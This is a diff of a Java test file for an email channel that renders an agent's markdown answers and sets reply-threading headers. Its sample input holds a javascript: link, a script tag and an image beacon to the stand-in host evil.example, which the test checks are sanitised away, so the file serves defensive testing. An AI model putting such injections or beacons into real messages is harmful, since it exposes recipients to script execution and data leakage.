@@ -230,11 +230,15 @@ class EmailChannelTest {
     void agentsAnswerIsMarkdownAsHtmlAndText() throws Exception {
         String markdown = "**Done**, see [here](https://x.example) or [there](javascript:alert(1)).\n\n"
                 + "![secret](https://evil.example/pixel?data=1)\n\n<script>alert(1)</script>\n\n- one\n- two";
-        MimeMessage mail = sent(new Outgoing.Answer(
-                Given.IDS.next(), Post.ANNA, USER, "The list", markdown, new Receipt("<first@example.com>"), "abc"));
+        Receipt first = new Receipt("<first@example.com>");
+        Receipt written = new Receipt("<third@example.com>");
+        MimeMessage mail = sent(
+                new Outgoing.Answer(Given.IDS.next(), Post.ANNA, USER, "The list", markdown, first, written, "abc"));
 
         assertThat(mail.getSubject()).isEqualTo("Re: The list");
-        assertThat(Post.header(mail, "In-Reply-To")).isEqualTo("<first@example.com>");
+        assertThat(Post.header(mail, "In-Reply-To")).isEqualTo("<third@example.com>");
+        assertThat(Post.header(mail, "References").split("\\s+"))
+                .containsExactly("<first@example.com>", "<third@example.com>");
         assertThat(Post.header(mail, "Reply-To")).isEqualTo("agent+abc@parley.test");
         assertThat(Post.header(mail, "Auto-Submitted")).isEqualTo("auto-replied");
         assertThat(Post.text(mail, 0)).isEqualTo(markdown);
@@ -242,6 +246,18 @@ class EmailChannelTest {
                 .contains("<strong>Done</strong>", "href=\"https://x.example\"", "<li>one</li>", "secret")
                 .contains("&lt;script&gt;")
                 .doesNotContain("<script", "javascript:", "<img", "evil.example");
+    }
+
+    @Test
+    void threadThatBeginsHasANameAndAnswersNoMail() throws Exception {
+        Receipt thread = channel().thread(Given.IDS.next()).orElseThrow();
+        MimeMessage mail = sent(
+                new Outgoing.Answer(Given.IDS.next(), Post.ANNA, USER, "The list", "Done.", thread, thread, "abc"));
+
+        assertThat(mail.getSubject()).isEqualTo("The list");
+        assertThat(mail.getHeader("In-Reply-To")).isNull();
+        assertThat(Post.header(mail, "References")).isEqualTo(thread.value());
+        assertThat(Post.header(mail, "Auto-Submitted")).isEqualTo("auto-generated");
     }
 
     @Test
